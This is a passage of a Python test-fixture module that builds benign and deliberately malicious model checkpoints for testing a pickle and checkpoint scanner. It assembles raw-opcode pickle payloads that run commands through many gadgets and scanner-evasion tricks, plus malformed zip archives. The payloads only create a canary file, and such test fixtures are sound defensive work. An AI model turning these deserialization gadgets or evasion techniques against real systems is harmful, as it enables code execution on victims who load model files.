"""Shared builders for test checkpoints: benign files torch and friends write, and malicious ones.

Every builder writes one file into a folder the caller owns (normally `tmp_path`) and returns
its path. torch, numpy and safetensors are imported inside the functions so importing this
module stays cheap. Malicious builders take a `canary` path: the payload creates that file if
it is ever executed, so a test proves nothing ran by asserting the canary is absent.

Add new builders at the end; never change an existing builder's output (other tests rely on it).
"""

from __future__ import annotations

import contextlib
import io
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

# ---------------------------------------------------------------------------------------------
# Benign builders
# ---------------------------------------------------------------------------------------------


def small_state_dict(seed: int = 0) -> dict:
    """A small model's state dict: a few float tensors of different shapes."""
    import torch

    g = torch.Generator().manual_seed(seed)
    return {
        "fc1.weight": torch.randn(8, 4, generator=g),
        "fc1.bias": torch.randn(8, generator=g),
        "fc2.weight": torch.randn(2, 8, generator=g),
        "fc2.bias": torch.zeros(2),
    }


def save_state_dict(path: Path, state: dict | None = None, **save_kwargs) -> Path:
    """torch.save a state dict (default: `small_state_dict()`) to `path`."""
    import torch

    torch.save(small_state_dict() if state is None else state, path, **save_kwargs)
    return Path(path)


def training_checkpoint() -> dict:
    """A full training checkpoint: model and Adam optimizer state after one step, plus metadata."""
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    loss = model(torch.randn(3, 4)).sum()
    loss.backward()
    opt.step()
    return {
        "epoch": 3,
        "step": 1200,
        "model": model.state_dict(),
        "optimizer": opt.state_dict(),
        "best_loss": 0.125,
        "note": "resumable checkpoint",
    }


def save_training_checkpoint(path: Path) -> Path:
    """torch.save `training_checkpoint()` to `path`."""
    return save_state_dict(path, training_checkpoint())


def every_dtype_state_dict() -> dict:
    """One tensor per dtype torch can save, including bfloat16, float8, complex, bool, quantized."""
    import torch

    base = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    names = [
        "float32", "float64", "float16", "bfloat16", "complex64", "complex128", "bool",
        "uint8", "int8", "int16", "int32", "int64", "uint16", "uint32", "uint64",
        "float8_e4m3fn", "float8_e5m2", "float8_e4m3fnuz", "float8_e5m2fnuz", "float8_e8m0fnu",
    ]
    out = {}
    for name in names:
        dtype = getattr(torch, name, None)
        if dtype is not None:
            out[name] = base.to(dtype)
    out["quint8"] = torch.quantize_per_tensor(base, 0.1, 3, torch.quint8)
    out["qint8"] = torch.quantize_per_tensor(base, 0.1, 0, torch.qint8)
    out["qint32"] = torch.quantize_per_tensor(base, 0.1, 0, torch.qint32)
    out["qint8_per_channel"] = torch.quantize_per_channel(
        base, torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8
    )
    return out


def save_every_dtype(path: Path) -> Path:
    """torch.save `every_dtype_state_dict()` to `path`."""
    return save_state_dict(path, every_dtype_state_dict())


def nested_containers() -> dict:
    """Nested dicts/lists/tuples, OrderedDict, torch.Size, dtype, device and plain scalars."""
    from collections import OrderedDict

    import torch

    return {
        "weights": OrderedDict([("a", torch.ones(2)), ("b", torch.zeros(3, dtype=torch.int64))]),
        "shapes": [torch.Size([2, 3]), torch.Size([])],
        "pairs": (1, 2.5, "three", None, True, b"bytes"),
        "deep": {"l1": {"l2": [{"l3": (torch.eye(2), [1, 2, {"x": -7}])}]}},
        "dtype": torch.float16,
        "device": torch.device("cpu"),
        "shared": [torch.arange(4)] * 2,
        "big_int": 2**70,
    }


def save_nested(path: Path) -> Path:
    """torch.save `nested_containers()` to `path`."""
    return save_state_dict(path, nested_containers())


def save_legacy(path: Path) -> Path:
    """Legacy (non-zip) torch.save stream of `small_state_dict()`."""
    return save_state_dict(path, _use_new_zipfile_serialization=False)


def save_torchscript(path: Path) -> Path:
    """A scripted module saved with torch.jit.save (a TorchScript archive)."""
    import torch

    module = torch.jit.script(torch.nn.Linear(3, 2))
    torch.jit.save(module, str(path))
    return Path(path)


def save_safetensors(path: Path, state: dict | None = None) -> Path:
    """A safetensors file of `small_state_dict()` (or `state`)."""
    from safetensors.torch import save_file

    save_file(small_state_dict() if state is None else state, str(path), metadata={"k": "v"})
    return Path(path)


def save_gguf_q4(path: Path) -> Path:
    """A GGUF file of a dense float32 `dense` (8x8) and a Q4_0 block-quantized `q` (2x32),
    written with llama.cpp's `gguf` package (the dev extra; the caller skips without it)."""
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_tensor("dense", np.arange(64, dtype=np.float32).reshape(8, 8))
    q4 = gguf.GGMLQuantizationType.Q4_0
    writer.add_tensor("q", gguf.quants.quantize(np.ones((2, 32), dtype=np.float32), q4),
                      raw_dtype=q4)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def save_npy(path: Path) -> Path:
    """A plain numeric .npy array (no pickle inside)."""
    import numpy as np

    with open(path, "wb") as f:
        np.save(f, np.arange(12, dtype=np.float32).reshape(3, 4))
    return Path(path)


def save_npz(path: Path, compressed: bool = False) -> Path:
    """A .npz archive of numeric arrays."""
    import numpy as np

    arrays = {"a": np.arange(5), "b": np.ones((2, 2), dtype=np.float64)}
    with open(path, "wb") as f:
        (np.savez_compressed if compressed else np.savez)(f, **arrays)
    return Path(path)


def save_npy_object(path: Path) -> Path:
    """An object-dtype .npy array (numpy stores it as a pickle)."""
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = [1, 2], {"k": "v"}
    with open(path, "wb") as f:
        np.save(f, arr, allow_pickle=True)
    return Path(path)


def large_state_dict(n_tensors: int = 5000) -> dict:
    """A state dict with `n_tensors` small tensors (for speed checks of the scanner)."""
    import torch

    return {f"layers.{i // 4}.p{i % 4}": torch.full((2, 2), float(i)) for i in range(n_tensors)}


def save_large_checkpoint(path: Path, n_tensors: int = 5000) -> Path:
    """torch.save `large_state_dict(n_tensors)` to `path`."""
    return save_state_dict(path, large_state_dict(n_tensors))


# ---------------------------------------------------------------------------------------------
# Pickle assembly: raw opcodes, so payloads can use tricks pickle.dumps never emits
# ---------------------------------------------------------------------------------------------

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
TUPLE1, TUPLE2 = b"\x85", b"\x86"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, SETITEM, APPEND = b"}", b"]", b")", b"s", b"a"
STACK_GLOBAL, MEMOIZE, NEWOBJ, OBJ = b"\x93", b"\x94", b"\x81", b"o"


def p_global(module: str, name: str) -> bytes:
    """GLOBAL opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def p_inst(module: str, name: str) -> bytes:
    """INST opcode (the caller pushes MARK and the arguments first)."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def p_unicode(s: str) -> bytes:
    """BINUNICODE opcode."""
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def p_short_unicode(s: str) -> bytes:
    """SHORT_BINUNICODE opcode."""
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def p_string(s: str) -> bytes:
    """STRING opcode (protocol 0 quoted text)."""
    return b"S" + repr(s).encode() + b"\n"


def p_binstring(s: str) -> bytes:
    """BINSTRING opcode."""
    raw = s.encode()
    return b"T" + struct.pack("<i", len(raw)) + raw


def p_int(n: int) -> bytes:
    """BININT opcode."""
    return b"J" + struct.pack("<i", n)


def p_binput(i: int) -> bytes:
    """BINPUT opcode."""
    return b"q" + bytes([i])


def p_binget(i: int) -> bytes:
    """BINGET opcode."""
    return b"h" + bytes([i])


def p_long_binget(i: int) -> bytes:
    """LONG_BINGET opcode."""
    return b"j" + struct.pack("<I", i)


def p_frame(n: int) -> bytes:
    """FRAME opcode with a declared length of n bytes."""
    return b"\x95" + struct.pack("<Q", n)


def call(module: str, name: str, *args: str, proto: bytes = PROTO2) -> bytes:
    """A complete pickle that calls module.name(*args) with string arguments."""
    body = b"".join(p_unicode(a) for a in args)
    return proto + p_global(module, name) + MARK + body + TUPLE + REDUCE + STOP


def touch_cmd(canary: Path) -> str:
    """Shell command that creates the canary."""
    return f"touch '{canary}'"


def touch_code(canary: Path) -> str:
    """Python source that creates the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def _write(path: Path, data: bytes) -> Path:
    Path(path).write_bytes(data)
    return Path(path)


# ---------------------------------------------------------------------------------------------
# Malicious builders: builder(path, canary) -> path; the payload creates `canary` if run
# ---------------------------------------------------------------------------------------------


def mal_os_system(path: Path, canary: Path) -> Path:
    """Classic GLOBAL os.system + REDUCE."""
    return _write(path, call("os", "system", touch_cmd(canary)))


def mal_posix_system(path: Path, canary: Path) -> Path:
    """posix.system: the platform module behind os, as pickle.dumps(os.system) writes it."""
    return _write(path, call("posix", "system", touch_cmd(canary)))


def mal_builtins_exec(path: Path, canary: Path) -> Path:
    """builtins.exec of Python source."""
    return _write(path, call("builtins", "exec", touch_code(canary)))


def mal_eval_proto0(path: Path, canary: Path) -> Path:
    """Protocol 0 (no PROTO opcode) pickle calling builtins.eval, meant to be named `.bin`."""
    data = p_global("builtins", "eval") + MARK + p_string(touch_code(canary)) + TUPLE + REDUCE
    return _write(path, data + STOP)


def mal_subprocess_call(path: Path, canary: Path) -> Path:
    """subprocess.call with a list argument built from MARK/LIST."""
    data = PROTO2 + p_global("subprocess", "call") + EMPTY_LIST + p_unicode("touch") + APPEND
    data += p_unicode(str(canary)) + APPEND + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_stack_global_memo(path: Path, canary: Path) -> Path:
    """STACK_GLOBAL whose operands come from STRING/BINSTRING through BINPUT/MEMOIZE and GETs."""
    data = PROTO4
    data += p_string("os") + p_binput(7) + POP  # memo[7] = "os"
    data += p_binstring("sys") + MEMOIZE + POP  # memo[0] = "sys" (decoy)
    data += p_binstring("tem") + POP  # decoy text never used
    data += p_short_unicode("system") + b"r" + struct.pack("<I", 300) + POP  # memo[300]
    data += p_binget(7) + p_long_binget(300) + STACK_GLOBAL
    data += p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_stack_global_get_proto0_memo(path: Path, canary: Path) -> Path:
    """Operands stored with PUT (text key) and fetched with GET, then STACK_GLOBAL."""
    data = PROTO4 + p_unicode("builtins") + b"p12\n" + POP + p_unicode("exec") + MEMOIZE + POP
    data += b"g12\n" + p_binget(1) + STACK_GLOBAL  # MEMOIZE used key len(memo) == 1
    data += p_unicode(touch_code(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_stack_global_dotted(path: Path, canary: Path) -> Path:
    """STACK_GLOBAL('pathlib', 'os.system'): resolves by attribute walk under protocol 4."""
    data = PROTO4 + p_short_unicode("pathlib") + p_short_unicode("os.system") + STACK_GLOBAL
    data += p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_obj_pop(path: Path, canary: Path) -> Path:
    """OBJ call whose result is discarded with POP; the file then unpickles to a plain dict."""
    data = PROTO2 + MARK + p_global("os", "system") + p_unicode(touch_cmd(canary)) + OBJ + POP
    data += EMPTY_DICT + p_unicode("ok") + p_int(1) + SETITEM + STOP
    return _write(path, data)


def mal_inst(path: Path, canary: Path) -> Path:
    """INST opcode (protocol 0 class instantiation) calling os.system."""
    data = MARK + p_string(touch_cmd(canary)) + p_inst("os", "system") + STOP
    return _write(path, data)


def mal_corrupt_tail(path: Path, canary: Path) -> Path:
    """A payload followed by garbage so a strict parser errors after the call."""
    data = PROTO2 + p_global("os", "system") + p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE
    return _write(path, data + b"\xff\xfe garbage that is not pickle")


def mal_frame_mismatch(path: Path, canary: Path) -> Path:
    """Protocol 4 with a FRAME that declares fewer bytes than the opcodes after it."""
    body = p_short_unicode("os") + p_short_unicode("system") + STACK_GLOBAL
    body += p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, PROTO4 + p_frame(3) + body)


def mal_ext_code(path: Path, canary: Path) -> Path:
    """EXT1: the callable comes from the copyreg extension registry, not resolvable statically."""
    data = PROTO2 + b"\x82\x7f" + p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_reduce_on_result(path: Path, canary: Path) -> Path:
    """pkgutil.resolve_name('os:system') then REDUCE on that result (callable is not a GLOBAL)."""
    data = PROTO2 + p_global("pkgutil", "resolve_name") + p_unicode("os:system") + TUPLE1 + REDUCE
    data += p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_getattr_import(path: Path, canary: Path) -> Path:
    """getattr(__import__('os'), 'system')(cmd)."""
    data = PROTO2 + p_global("builtins", "getattr")
    data += p_global("builtins", "__import__") + p_unicode("os") + TUPLE1 + REDUCE
    data += p_unicode("system") + TUPLE2 + REDUCE
    data += p_unicode(touch_cmd(canary)) + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_timeit(path: Path, canary: Path) -> Path:
    """timeit.timeit runs a code string."""
    data = PROTO2 + p_global("timeit", "timeit") + MARK + p_unicode(touch_code(canary))
    data += p_unicode("pass") + p_global("time", "perf_counter") + p_int(1) + TUPLE + REDUCE + STOP
    return _write(path, data)


def mal_collect_env_run(path: Path, canary: Path) -> Path:
    """torch.utils.collect_env.run: a torch submodule gadget that runs a shell command."""
    return _write(path, call("torch.utils.collect_env", "run", touch_cmd(canary)))


def mal_io_fileio(path: Path, canary: Path) -> Path:
    """_io.FileIO(canary, 'w') creates the file without running any code string."""
    return _write(path, call("_io", "FileIO", str(canary), "w"))


def mal_logging_filehandler(path: Path, canary: Path) -> Path:
    """logging.FileHandler(canary) opens (creates) the file."""
    return _write(path, call("logging", "FileHandler", str(canary)))


def mal_pip_main(path: Path, canary: Path) -> Path:
    """pip.main (CVE-2025-1716): not on older deny lists; here it also touches the canary."""
    data = PROTO2 + p_global("pip", "main") + EMPTY_LIST + p_unicode("download") + APPEND
    data += p_unicode("--log") + APPEND + p_unicode(str(canary)) + APPEND
    data += p_unicode("nonexistent-pkg-xyz") + APPEND + TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_runstring(path: Path, canary: Path) -> Path:
    """numpy.testing._private.utils.runstring executes a code string."""
    data = PROTO2 + p_global("numpy.testing._private.utils", "runstring")
    data += p_unicode(touch_code(canary)) + EMPTY_DICT + TUPLE2 + REDUCE + STOP
    return _write(path, data)


def mal_osx_support(path: Path, canary: Path) -> Path:
    """_osx_support._read_output runs a shell command."""
    return _write(path, call("_osx_support", "_read_output", touch_cmd(canary)))


def mal_uuid_command(path: Path, canary: Path) -> Path:
    """uuid._get_command_stdout runs an executable."""
    return _write(path, call("uuid", "_get_command_stdout", "touch", str(canary)))


def mal_pickle_loads_nested(path: Path, canary: Path) -> Path:
    """pickle.loads of an inner malicious pickle (a hook on pickle.load alone misses it)."""
    inner = call("os", "system", touch_cmd(canary))
    data = PROTO2 + p_global("pickle", "loads") + b"C" + bytes([len(inner)]) + inner
    return _write(path, data + TUPLE1 + REDUCE + STOP)


def mal_marshal_code(path: Path, canary: Path) -> Path:
    """types.FunctionType(marshal.loads(code), {})() — code object smuggled as bytes."""
    import marshal

    code = marshal.dumps(compile(touch_code(canary), "<p>", "exec"))
    data = PROTO2 + p_global("types", "FunctionType")
    data += p_global("marshal", "loads") + b"B" + struct.pack("<I", len(code)) + code
    data += TUPLE1 + REDUCE + EMPTY_DICT + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP
    return _write(path, data)


def mal_methodcaller(path: Path, canary: Path) -> Path:
    """operator.methodcaller('system', cmd) applied to importlib.import_module('os')."""
    data = PROTO2 + p_global("operator", "methodcaller")
    data += p_unicode("system") + p_unicode(touch_cmd(canary)) + TUPLE2 + REDUCE
    data += p_global("importlib", "import_module") + p_unicode("os") + TUPLE1 + REDUCE
    data += TUPLE1 + REDUCE + STOP
    return _write(path, data)


def mal_build_setstate(path: Path, canary: Path) -> Path:
    """BUILD on a class-derived object whose state names code to run (via NEWOBJ of exec)."""
    data = PROTO2 + p_global("builtins", "exec") + p_unicode(touch_code(canary)) + TUPLE1 + REDUCE
    data += EMPTY_DICT + BUILD + STOP
    return _write(path, data)


def _torch_zip_bytes(tmp_dir: Path) -> bytes:
    """Bytes of a real torch.save zip of `small_state_dict()`."""
    target = Path(tmp_dir) / "_base_ckpt.pt"
    if not target.exists():
        save_state_dict(target)
    return target.read_bytes()


def _rewrite_zip(src: bytes, replace: dict[str, bytes], extra: dict[str, bytes] | None = None,
                 compress: set[str] | None = None) -> bytes:
    """Copy a zip, replacing some members' bytes and appending extra members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new
            method = zipfile.ZIP_DEFLATED if compress and info.filename.endswith(
                tuple(compress)) else zipfile.ZIP_STORED
            zout.writestr(zipfile.ZipInfo(info.filename), data, compress_type=method)
        for name, data in (extra or {}).items():
            zout.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _data_pkl_name(src: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        return next(n for n in z.namelist() if n.endswith("/data.pkl"))


def mal_zip_data_pkl(path: Path, canary: Path) -> Path:
    """A torch zip archive whose data.pkl is an os.system payload."""
    src = _torch_zip_bytes(Path(path).parent)
    return _write(path, _rewrite_zip(src, {"/data.pkl": call("os", "system", touch_cmd(canary))}))


def mal_zip_broken_directory(path: Path, canary: Path) -> Path:
    """`mal_zip_data_pkl` with its second central-directory entry's signature spoiled:
    zipfile and torch's reader refuse the whole archive, and the first entry still names the
    data.pkl payload (no loader runs it)."""
    buf = bytearray(mal_zip_data_pkl(path, canary).read_bytes())
    first = buf.find(b"PK\x01\x02")
    second = buf.find(b"PK\x01\x02", first + 4)
    buf[second:second + 4] = b"PK\x01\x09"
    return _write(path, bytes(buf))


def mal_zip_local_name_mismatch(path: Path, canary: Path) -> Path:
    """`mal_zip_data_pkl` whose last member's local header names another file: the scan's
    zip reader calls the archive damaged, and torch's reader (which trusts the central
    directory) still hands out the data.pkl payload."""
    buf = bytearray(mal_zip_data_pkl(path, canary).read_bytes())
    last = buf.rfind(b"PK\x03\x04")
    buf[last + 30] ^= 0x20  # the first letter of its name, upper case for lower
    return _write(path, bytes(buf))


def mal_zip_data_pkl_other_disk(path: Path, canary: Path) -> Path:
    """`mal_zip_data_pkl` whose data.pkl directory entry starts on disk 7: torch's reader
    refuses the archive (a multidisk archive), so torch.load runs nothing."""
    buf = bytearray(mal_zip_data_pkl(path, canary).read_bytes())
    entry = buf.find(b"PK\x01\x02")
    while not bytes(buf[entry + 46:entry + 46 + 80]).split(b"PK")[0].endswith(b"data.pkl"):
        entry = buf.find(b"PK\x01\x02", entry + 4)
    struct.pack_into("<H", buf, entry + 34, 7)
    return _write(path, bytes(buf))


def _patch_zip_flags(data: bytes, flag: int) -> bytes:
    """Set a general-purpose flag bit in every local and central header."""
    buf = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := buf.find(sig, start)) >= 0:
            (old,) = struct.unpack_from("<H", buf, i + off)
            struct.pack_into("<H", buf, i + off, old | flag)
            start = i + 4
    return bytes(buf)


def mal_zip_flag(flag: int) -> Callable[[Path, Path], Path]:
    """Builder for a malicious torch zip with general-purpose flag bit `flag` set."""

    def build(path: Path, canary: Path) -> Path:
        mal_zip_data_pkl(path, canary)
        return _write(path, _patch_zip_flags(Path(path).read_bytes(), flag))

    build.__doc__ = f"Malicious torch zip with zip flag bit {flag:#x} set everywhere."
    return build


def _with_data_pkl_crc(zip_bytes: bytes, crc: int) -> bytes:
    """The torch zip with its data.pkl's CRC-32 set to `crc` in both its headers."""
    buf = bytearray(zip_bytes)
    name = _data_pkl_name(zip_bytes).encode()
    for sig, crc_off, name_off in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        start = 0
        while (i := buf.find(sig, start)) >= 0:
            if buf[i + name_off:i + name_off + len(name)] == name:
                struct.pack_into("<I", buf, i + crc_off, crc)
            start = i + 4
    return bytes(buf)


def mal_zip_bad_crc(path: Path, canary: Path) -> Path:
    """Malicious torch zip with a deliberately wrong CRC on data.pkl (strict readers give up)."""
    mal_zip_data_pkl(path, canary)
    return _write(path, _with_data_pkl_crc(Path(path).read_bytes(), 0xDEADBEEF))


def mal_zip_name_mismatch(path: Path, canary: Path) -> Path:
    """Local header names data.pkl differently from the central directory."""
    mal_zip_data_pkl(path, canary)
    buf = bytearray(Path(path).read_bytes())
    name = _data_pkl_name(bytes(buf)).encode()
    i = buf.find(b"PK\x03\x04")
    while i >= 0:
        if buf[i + 30:i + 30 + len(name)] == name:
            buf[i + 30 + len(name) - 8:i + 30 + len(name)] = b"Data.PKL"
            break
        i = buf.find(b"PK\x03\x04", i + 4)
    return _write(path, bytes(buf))


def mal_zip_hidden_member(path: Path, canary: Path) -> Path:
    """Benign data.pkl, payload hidden in a member with a non-pickle name (CVE-2025-1889)."""
    src = _torch_zip_bytes(Path(path).parent)
    prefix = _data_pkl_name(src).split("/")[0]
    extra = {f"{prefix}/config.json": call("os", "system", touch_cmd(canary))}
    return _write(path, _rewrite_zip(src, {}, extra))


def mal_zip_compressed_pkl(path: Path, canary: Path) -> Path:
    """Payload in a deflate-compressed data.pkl."""
    src = _torch_zip_bytes(Path(path).parent)
    data = _rewrite_zip(src, {"/data.pkl": call("os", "system", touch_cmd(canary))}, None,
                        {"/data.pkl"})
    return _write(path, data)


def mal_legacy_magic_eval(path: Path, canary: Path) -> Path:
    """Legacy stream whose magic-number pickle is builtins.eval(code that returns the magic)."""
    import pickle

    src = Path(path).parent / "_legacy_base.pt"
    save_legacy(src)
    legacy = src.read_bytes()
    first_len = len(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2))
    expr = f"({touch_code(canary)}, 0x1950a86a20f9469cfc6c)[1]"
    return _write(path, call("builtins", "eval", expr) + legacy[first_len:])


def mal_legacy_late_payload(path: Path, canary: Path) -> Path:
    """Legacy stream with a normal magic pickle and a payload in the sys_info pickle."""
    import pickle

    src = Path(path).parent / "_legacy_base.pt"
    save_legacy(src)
    f = io.BytesIO(src.read_bytes())
    pickle.load(f)
    pickle.load(f)  # protocol version
    head = f.getvalue()[: f.tell()]
    pickle.load(f)  # sys_info
    rest = f.getvalue()[f.tell():]
    return _write(path, head + call("os", "system", touch_cmd(canary)) + rest)


def mal_npy_object(path: Path, canary: Path) -> Path:
    """A .npy header declaring an object array whose pickle payload runs os.system."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + "\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    return _write(path, data + call("os", "system", touch_cmd(canary)))


def mal_gzip_pickle(path: Path, canary: Path) -> Path:
    """A gzip-compressed pickle payload (joblib-style compressed pickles)."""
    import gzip

    return _write(path, gzip.compress(call("os", "system", touch_cmd(canary))))


MALICIOUS_BUILDERS: dict[str, Callable[[Path, Path], Path]] = {
    "os_system": mal_os_system,
    "posix_system": mal_posix_system,
    "builtins_exec": mal_builtins_exec,
    "eval_proto0": mal_eval_proto0,
    "subprocess_call": mal_subprocess_call,
    "stack_global_memo": mal_stack_global_memo,
    "stack_global_get_memoize": mal_stack_global_get_proto0_memo,
    "stack_global_dotted": mal_stack_global_dotted,
    "obj_pop": mal_obj_pop,
    "inst": mal_inst,
    "corrupt_tail": mal_corrupt_tail,
    "frame_mismatch": mal_frame_mismatch,
    "ext_code": mal_ext_code,
    "reduce_on_result": mal_reduce_on_result,
    "getattr_import": mal_getattr_import,
    "timeit": mal_timeit,
    "collect_env_run": mal_collect_env_run,
    "io_fileio": mal_io_fileio,
    "logging_filehandler": mal_logging_filehandler,
    "pip_main": mal_pip_main,
    "runstring": mal_runstring,
    "osx_support": mal_osx_support,
    "uuid_command": mal_uuid_command,
    "pickle_loads_nested": mal_pickle_loads_nested,
    "marshal_code": mal_marshal_code,
    "methodcaller": mal_methodcaller,
    "build_exec": mal_build_setstate,
    "zip_data_pkl": mal_zip_data_pkl,
    "zip_flag_0x1": mal_zip_flag(0x1),
    "zip_flag_0x20": mal_zip_flag(0x20),
    "zip_flag_0x40": mal_zip_flag(0x40),
    "zip_bad_crc": mal_zip_bad_crc,
    "zip_name_mismatch": mal_zip_name_mismatch,
    "zip_hidden_member": mal_zip_hidden_member,
    "zip_compressed_pkl": mal_zip_compressed_pkl,
    "legacy_magic_eval": mal_legacy_magic_eval,
    "legacy_late_payload": mal_legacy_late_payload,
    "npy_object": mal_npy_object,
    "gzip_pickle": mal_gzip_pickle,
}

BENIGN_BUILDERS: dict[str, Callable[[Path], Path]] = {
    "state_dict": save_state_dict,
    "training_checkpoint": save_training_checkpoint,
    "every_dtype": save_every_dtype,
    "nested": save_nested,
    "legacy": save_legacy,
    "torchscript": save_torchscript,
    "safetensors": save_safetensors,
    "npy": save_npy,
    "npz": save_npz,
    "npy_object": save_npy_object,
}


# ---------------------------------------------------------------------------------------------
# Structural oddities with benign content: builder(path) -> path (no payload, no canary)
# ---------------------------------------------------------------------------------------------


def save_protocol4(path: Path) -> Path:
    """torch.save with pickle protocol 4 (FRAME, MEMOIZE, SHORT_BINUNICODE)."""
    return save_state_dict(path, pickle_protocol=4)


def _benign_zip(path: Path) -> bytes:
    return _torch_zip_bytes(Path(path).parent)


def odd_zip_bad_crc(path: Path) -> Path:
    """Benign torch zip whose data.pkl CRC-32 is wrong in both headers."""
    return _write(path, _with_data_pkl_crc(_benign_zip(path), 0x12345678))


def odd_zip_flag(flag: int) -> Callable[[Path], Path]:
    """Builder for a benign torch zip with general-purpose flag bit `flag` set everywhere."""

    def build(path: Path) -> Path:
        return _write(path, _patch_zip_flags(_benign_zip(path), flag))

    build.__doc__ = f"Benign torch zip with zip flag bit {flag:#x} set."
    return build


def odd_zip_name_mismatch(path: Path) -> Path:
    """Benign torch zip whose local header names data.pkl differently from the central one."""
    buf = bytearray(_benign_zip(path))
    name = _data_pkl_name(bytes(buf)).encode()
    i = buf.find(name)  # the first occurrence is the local header's copy
    buf[i + len(name) - 8:i + len(name)] = b"Data.PKL"
    return _write(path, bytes(buf))


def odd_zip_unreferenced_record(path: Path) -> Path:
    """Benign torch zip with an extra data/ record no storage references."""
    src = _benign_zip(path)
    prefix = _data_pkl_name(src).split("/")[0]
    return _write(path, _rewrite_zip(src, {}, {f"{prefix}/data/999": b"\x00" * 64}))


def odd_zip_duplicate_name(path: Path) -> Path:
    """Benign torch zip with a second member named like an existing record."""
    src = _benign_zip(path)
    prefix = _data_pkl_name(src).split("/")[0]
    out = io.BytesIO(src)
    with zipfile.ZipFile(out, "a") as z, __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")
        z.writestr(zipfile.ZipInfo(f"{prefix}/byteorder"), b"little")
    return _write(path, out.getvalue())


def odd_zip_traversal_name(path: Path) -> Path:
    """Benign torch zip with an extra member whose name climbs out of the folder."""
    return _write(path, _rewrite_zip(_benign_zip(path), {}, {"../../etc/evil.txt": b"x"}))


def odd_zip_missing_record(path: Path) -> Path:
    """Benign torch zip with one storage record removed."""
    src = _benign_zip(path)
    prefix = _data_pkl_name(src).split("/")[0]
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            if info.filename != f"{prefix}/data/0":
                zout.writestr(zipfile.ZipInfo(info.filename), zin.read(info.filename))
    return _write(path, out.getvalue())


def odd_zip_short_record(path: Path) -> Path:
    """Benign torch zip whose first storage record is shorter than the storage declares."""
    src = _benign_zip(path)
    prefix = _data_pkl_name(src).split("/")[0]
    return _write(path, _rewrite_zip(src, {f"{prefix}/data/0": b"\x00" * 8}))


def odd_setitem_on_list(path: Path) -> Path:
    """Raw pickle doing SETITEM on a list (type confusion; CVE-2026-24747 class)."""
    data = PROTO2 + EMPTY_LIST + p_int(0) + p_int(1) + SETITEM + STOP
    return _write(path, data)


def odd_zip_setitem_on_list(path: Path) -> Path:
    """Torch zip whose data.pkl does SETITEM on a list."""
    data = PROTO2 + EMPTY_LIST + p_int(0) + p_int(1) + SETITEM + STOP
    return _write(path, _rewrite_zip(_benign_zip(path), {"/data.pkl": data}))


def odd_zip_compressed_data_pkl(path: Path) -> Path:
    """Benign torch zip whose data.pkl is deflate-compressed."""
    return _write(path, _rewrite_zip(_benign_zip(path), {}, None, {"/data.pkl"}))


def odd_legacy_protocol4(path: Path) -> Path:
    """Legacy torch stream written with pickle protocol 4."""
    return save_state_dict(path, _use_new_zipfile_serialization=False, pickle_protocol=4)


# name -> (builder, finding code the scanner must report, or None)
ODD_BUILDERS: dict[str, tuple[Callable[[Path], Path], str | None]] = {
    "protocol4": (save_protocol4, None),
    "legacy_protocol4": (odd_legacy_protocol4, None),
    "zip_bad_crc": (odd_zip_bad_crc, "zip-crc-mismatch"),
    "zip_flag_0x1": (odd_zip_flag(0x1), "zip-flag-bits"),
    "zip_flag_0x20": (odd_zip_flag(0x20), "zip-flag-bits"),
    "zip_flag_0x40": (odd_zip_flag(0x40), "zip-flag-bits"),
    "zip_name_mismatch": (odd_zip_name_mismatch, "zip-name-mismatch"),
    "zip_unreferenced_record": (odd_zip_unreferenced_record, "zip-unreferenced-record"),
    "zip_duplicate_name": (odd_zip_duplicate_name, "zip-duplicate-name"),
    "zip_traversal_name": (odd_zip_traversal_name, "writes-outside"),
